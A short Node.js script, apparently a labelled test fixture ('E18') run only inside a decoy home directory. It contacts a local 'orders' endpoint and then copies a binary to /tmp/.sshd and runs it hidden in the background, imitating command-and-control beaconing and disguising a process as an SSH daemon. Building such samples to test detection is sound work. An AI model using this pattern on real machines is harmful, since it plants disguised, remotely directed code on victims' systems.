// E18: asks for orders, then runs a copied program under the name of a daemon.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const http = require("node:http");
const { execSync } = require("node:child_process");

http.get("http://127.0.0.1:8000/orders", (response) => {
  response.resume();
  response.on("end", () => {
    execSync(`cp deed /tmp/.sshd; chmod +x /tmp/.sshd; /tmp/.sshd mark ${home}/harm > /dev/null 2>&1 &`);
  });
});
